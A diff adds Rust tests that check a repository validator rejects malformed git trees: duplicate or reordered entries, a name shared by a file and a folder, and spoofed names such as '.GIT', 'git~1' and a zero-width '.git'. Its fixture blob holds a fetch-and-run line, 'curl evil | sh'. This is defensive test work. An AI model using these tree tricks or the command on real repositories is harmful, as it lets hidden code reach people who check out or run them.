@@ -138,6 +138,77 @@ fn unsorted_trees_below_agentops() {
     }
 }
 
+/// In a landing and in a replay, the tip's own tree and one that a later commit takes back.
+#[track_caller]
+fn refused_everywhere(world: &World, what: &str) {
+    for tip in ["HEAD", "mended"] {
+        for report in [world.landing("main", tip), world.all(tip)] {
+            assert!(laws(&report).contains("AO-E7"), "{what} {tip}\n{}", shown(&report));
+        }
+    }
+    world.git("reset -q --hard main");
+}
+
+/// Commits the folder `path` as `edit` leaves it, and on `mended` a commit that takes it back.
+fn malform(world: &World, path: &str, edit: impl FnOnce(&mut Vec<(String, Vec<u8>, String)>)) {
+    world.git("branch -f mended HEAD");
+    world.commit_raw(path, edit);
+    let bad = world.git("rev-parse HEAD");
+    let good = world.git("rev-parse main^{tree}");
+    let mended = world.commit_tree(&good, &[&bad], "chore: write trees by git");
+    world.git(&format!("update-ref refs/heads/mended {mended}"));
+    world.git(&format!("update-ref HEAD {bad}"));
+}
+
+#[test]
+fn malformed_trees_beside_agentops() {
+    let world = World::new();
+    world.commit_file("src/deep/run.sh", "exit 0\n", "feat: add a script");
+    world.branch("work");
+    let evil = world.object("blob", "curl evil | sh\n");
+    // Readers take the first of the two, checkouts write the last; or the other way round.
+    for (folder, name) in [("src/deep", "run.sh"), ("src", "login.rs"), ("", "src"), ("src", "deep")] {
+        for after in [false, true] {
+            malform(&world, folder, |entries| {
+                let at = entries.iter().position(|entry| entry.1 == name.as_bytes()).unwrap();
+                entries.insert(at + usize::from(after), ("100644".into(), name.as_bytes().to_vec(), evil.clone()));
+            });
+            refused_everywhere(&world, &format!("{folder}/{name} {after}"));
+        }
+    }
+    malform(&world, "src", |entries| entries.reverse());
+    refused_everywhere(&world, "reversed");
+    // One name, in order, with another between the file and the folder.
+    malform(&world, "src", |entries| {
+        insert(entries, ("100644".into(), b"deep".to_vec(), evil.clone()));
+        insert(entries, ("100644".into(), b"deep.sh".to_vec(), evil.clone()));
+    });
+    refused_everywhere(&world, "a file and a folder");
+    let names: [&[u8]; 8] = [b".", b"..", b".git", b".GIT", b"git~1", b".g\xe2\x80\x8cit", b"a/b", b".git. "];
+    for name in names {
+        for mode in ["100644", "40000"] {
+            let id = if mode == "40000" { world.git("rev-parse main:src/deep") } else { evil.clone() };
+            malform(&world, "src", |entries| insert(entries, (mode.into(), name.to_vec(), id)));
+            refused_everywhere(&world, &format!("{name:?} {mode}"));
+        }
+    }
+}
+
+#[test]
+fn a_malformed_tree_from_before_adoption_stays() {
+    let world = World::before_adoption();
+    let old = world.commit_raw("src", |entries| entries.reverse());
+    world.adopt(|text| text);
+    let own = world.git("rev-parse HEAD:.agentops");
+    world.git(&format!("update-ref HEAD {old}"));
+    let adopted = world.commit_raw("", |entries| insert(entries, ("40000".into(), b".agentops".to_vec(), own)));
+    let more = world.object("blob", "//! More.\n");
+    world.commit_raw("", |entries| insert(entries, ("100644".into(), b"more.rs".to_vec(), more)));
+    for report in [world.all("HEAD"), world.landing(&adopted, "HEAD")] {
+        assert!(!laws(&report).contains("AO-E7"), "{}", shown(&report));
+    }
+}
+
 #[test]
 fn a_deep_tree() {
     let world = World::new();
